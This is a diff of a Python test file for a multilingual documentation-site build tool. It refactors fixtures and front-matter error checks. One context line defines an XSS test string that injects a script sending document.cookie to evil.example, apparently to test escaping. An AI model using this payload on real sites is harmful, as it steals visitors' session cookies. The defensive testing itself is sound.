@@ -9,22 +9,21 @@
   tests/test_browser.py.
 * Bad bytes and bad front matter give one line naming the file.
 
-Broken input is built as a small trilingual site (tests/fixtures/site/) with the
-project's own configuration, hooks and overrides.
+Broken input is built as the small trilingual site of conftest (``small_site``) with
+the project's own configuration, hooks and overrides.
 """
 
 from __future__ import annotations
 
 import html
 import re
-import shutil
 import subprocess
 from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
 
-from sitetools.guard.scan import source_revision
+from sitetools.guard.scan import scan_page
 from sitetools.postbuild.active import (
     Allowed,
     active_content,
@@ -41,9 +40,10 @@ from sitetools.postbuild.csp import (
     page_policy,
     script_hash,
 )
-from sitetools.render.pages import escape_front_matter, front_matter_problem, utf8_problem
+from sitetools.render.pages import escape_front_matter
 
-from conftest import FIXTURES, ROOT, build_site, fixture_data_dir
+from conftest import ROOT, build_site
+from conftest import small_site as conftest_small_site
 
 OVERRIDES = ROOT / "overrides"
 ATTACK = 'Паспорта"><script>fetch("https://evil.example/?"+document.cookie)</script><meta x="'
@@ -52,25 +52,9 @@ ATTACK = 'Паспорта"><script>fetch("https://evil.example/?"+document.cook
 # ------------------------------------------------------------------ the small site
 
 def small_site(tmp_path: Path) -> Path:
-    """tests/fixtures/site/ as a project to break: the real mkdocs.yml with a two-page nav,
-    the real hooks and overrides (linked), the fixture data."""
-    project = tmp_path / "project"
-    shutil.copytree(FIXTURES / "site" / "docs", project / "docs")
-    for name in ("index.md", "help/index.md"):
-        revision = source_revision(project / "docs" / "en" / name)
-        for lang in ("ru", "uk"):
-            page = project / "docs" / lang / name
-            page.write_text(page.read_text(encoding="utf-8").replace("@REV@", revision),
-                            encoding="utf-8")
-    for name in ("hooks", "overrides"):
-        (project / name).symlink_to(ROOT / name, target_is_directory=True)
-    fixture_data_dir(project)
-    config = (ROOT / "mkdocs.yml").read_text(encoding="utf-8")
-    nav = "nav:\n  - index.md\n  - help/index.md\n\n"
-    config, count = re.subn(r"^nav:\n(?:[ \t]+.*\n|\n)*", nav, config, flags=re.M)
-    assert count == 1, "mkdocs.yml has no nav: section to replace"
-    (project / "mkdocs.yml").write_text(config, encoding="utf-8")
-    return project
+    """The small trilingual site of conftest (real mkdocs.yml, hooks, overrides and the
+    fixture data; index, help and law pages) as a project to break."""
+    return conftest_small_site(tmp_path / "project")
 
 
 def set_front_matter(page: Path, key: str, value: str) -> None:
@@ -197,7 +181,7 @@ def test_a_byte_that_is_not_utf8_gives_one_line_naming_file_and_offset(
     project = small_site(tmp_path)
     page = project / "docs" / "uk" / "index.md"
     raw = page.read_bytes()
-    cut = raw.index("Початок {#top}".encode())
+    cut = raw.index(b"{#top}")
     page.write_bytes(raw[:cut] + b"\xff" + raw[cut:])
     proc = build_site(tmp_path / "site", project=project, check=False)
     assert proc.returncode != 0
@@ -210,10 +194,12 @@ def test_a_byte_that_is_not_utf8_gives_one_line_naming_file_and_offset(
 @pytest.mark.build
 def test_invalid_front_matter_is_reported_as_such(tmp_path: Path) -> None:
     project = small_site(tmp_path)
-    set_front_matter(project / "docs" / "ru" / "index.md", "description", '"unclosed')
+    page = project / "docs" / "ru" / "index.md"
+    set_front_matter(page, "description", '"unclosed')
+    line = page.read_text(encoding="utf-8").splitlines().index('description: "unclosed') + 1
     proc = build_site(tmp_path / "site", project=project, check=False)
     assert proc.returncode != 0
-    expected = ("docs/ru/index.md:3: front matter is not valid YAML: while scanning a quoted "
+    expected = (f"docs/ru/index.md:{line}: front matter is not valid YAML: while scanning a quoted "
                 "scalar, found unexpected end of stream")
     assert expected in proc.stderr, proc.stderr[-3000:]
     assert "'reviewed' is missing" not in proc.stderr and "Traceback" not in proc.stderr
@@ -394,27 +380,22 @@ def test_front_matter_is_escaped_keeping_types() -> None:
     assert escape(out["title"]) == out["title"]  # a template's own `| e` adds nothing
 
 
-def test_a_bad_byte_is_named_with_line_and_offset() -> None:
-    assert utf8_problem("ок\n".encode(), "docs/ru/x.md") is None
-    head = "строка\nещё ".encode()
-    assert utf8_problem(head + b"\xd0\x28 end", "docs/ru/x.md") == (
-        f"docs/ru/x.md:2: byte {len(head)} (0xd0) is not UTF-8; save the file as UTF-8")
-
-
 @pytest.mark.parametrize(("source", "message"), [
     ("---\ntitle: x\n---\n\n# x\n", None),
     ("# no front matter\n", None),
     ("---\ntitle: x\ndescription: \"open\nreviewed: 2026-11-21\n---\n# x\n",
-     "docs/ru/x.md:3: front matter is not valid YAML: while scanning a quoted scalar, "
+     "3: front matter is not valid YAML: while scanning a quoted scalar, "
      "found unexpected end of stream"),
     ("---\ntitle: x: y\n---\n# x\n",
-     "docs/ru/x.md:2: front matter is not valid YAML: mapping values are not allowed here"),
-    ("---\ntitle: x\n\n# x\n", "docs/ru/x.md:1: front matter is not closed by a line '---'"),
+     "2: front matter is not valid YAML: mapping values are not allowed in this context"),
+    ("---\ntitle: x\n\n# x\n", "1: front matter is not closed by a line '---'"),
     ("---\n- a\n- b\n---\n# x\n",
-     "docs/ru/x.md:2: front matter is not a list of 'key: value' lines"),
+     "1: front matter is not a mapping of keys to values"),
 ])
 def test_front_matter_problems(source: str, message: str | None) -> None:
-    assert front_matter_problem(source, "docs/ru/x.md") == message
+    """The guard reads the front matter (the build stops on its line: build_start.py)."""
+    front = scan_page(source, "ru", "x.md").front
+    assert (f"{front.error_line}: {front.error}" if front.error else None) == message
 
 
 def test_the_shim_frame_script_is_the_same_in_every_copy() -> None:
